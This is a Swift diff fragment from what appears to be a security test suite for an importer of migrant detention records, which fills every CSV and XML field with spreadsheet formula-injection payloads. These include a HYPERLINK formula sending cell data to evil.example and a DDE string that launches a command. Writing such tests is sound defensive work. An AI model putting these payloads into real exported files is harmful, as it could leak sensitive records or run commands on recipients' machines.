-                let q = "\"" + f.replacingOccurrences(of: "\"", with: "\"\"") + "\""
-                // Every field holds the payload; name fields carry the name marker as well.
-                rows.append(([q, q, "\"" + Scene.namePayload + f.replacingOccurrences(of: "\"", with: "\"\"") + "\"", q] + Array(repeating: q, count: 10)).joined(separator: ","))
-            }
-            s.write(C, Scene.detentionHeader + "\n" + rows.joined(separator: "\n") + "\n")
-            let esc = { (f: String) in f.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;").replacingOccurrences(of: "\"", with: "&quot;") }
-            let records = formulas.map { f in
-                let e = esc(f)
-                return "<migrant><caseId>\(e)</caseId><unhcrId>\(e)</unhcrId><familyName>\(Scene.namePayload)\(e)</familyName><givenName>\(e)</givenName><sex>\(e)</sex><birthDate>\(e)</birthDate><nationality>\(e)</nationality><arrivalDate>\(e)</arrivalDate><interception>\(e)</interception><status>\(e)</status><statusDate>\(e)</statusDate><unaccompaniedMinor>\(e)</unaccompaniedMinor><vulnerabilities><code>\(e)</code></vulnerabilities><services><code>\(e)</code></services></migrant>"
-            }
-            s.write(X1, Scene.xml(period: "2012-01", records.joined(separator: "\n")))
-        }, issues: [])  // record issues by the hundred: checked by the formula and name checks below
+        Attack(
+            name: "formula payloads in every CSV and XML field",
+            build: { s in
+                let formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "|calc", "%0A=1", "\t=1", "\r=1"]
+                var rows: [String] = []
+                for f in formulas {
+                    let q = "\"" + f.replacingOccurrences(of: "\"", with: "\"\"") + "\""
+                    // Every field holds the payload; name fields carry the name marker as well.
+                    rows.append(([q, q, "\"" + Scene.namePayload + f.replacingOccurrences(of: "\"", with: "\"\"") + "\"", q] + Array(repeating: q, count: 10)).joined(separator: ","))
+                }
+                s.write(C, Scene.detentionHeader + "\n" + rows.joined(separator: "\n") + "\n")
+                let esc = { (f: String) in f.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;").replacingOccurrences(of: "\"", with: "&quot;") }
+                let records = formulas.map { f in
+                    let e = esc(f)
+                    return "<migrant><caseId>\(e)</caseId><unhcrId>\(e)</unhcrId><familyName>\(Scene.namePayload)\(e)</familyName><givenName>\(e)</givenName><sex>\(e)</sex><birthDate>\(e)</birthDate><nationality>\(e)</nationality><arrivalDate>\(e)</arrivalDate><interception>\(e)</interception><status>\(e)</status><statusDate>\(e)</statusDate><unaccompaniedMinor>\(e)</unaccompaniedMinor><vulnerabilities><code>\(e)</code></vulnerabilities><services><code>\(e)</code></services></migrant>"
+                }
+                s.write(X1, Scene.xml(period: "2012-01", records.joined(separator: "\n")))
+            }, issues: [])  // record issues by the hundred: checked by the formula and name checks below
     ]
 }
 
